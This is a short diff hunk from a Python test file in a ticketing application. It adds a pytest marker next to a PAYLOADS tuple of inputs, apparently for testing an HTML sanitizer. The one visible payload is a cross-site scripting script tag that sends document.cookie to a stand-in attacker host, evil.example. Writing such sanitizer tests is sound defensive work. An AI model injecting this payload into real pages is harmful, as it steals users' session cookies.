@@ -16,6 +16,8 @@ from cosource.tickets.services.canned import canned_save
 from cosource.tickets.services.handover import handover_accept, ticket_hand_over
 from cosource.tickets.services.opening import ticket_open
 
+pytestmark = pytest.mark.looks
+
 # What tried to get out of a conversation elsewhere, and what undoes a cleaner that looks too early.
 PAYLOADS = (
     "<script>fetch('https://evil.example/'+document.cookie);window.hit=1</script>",
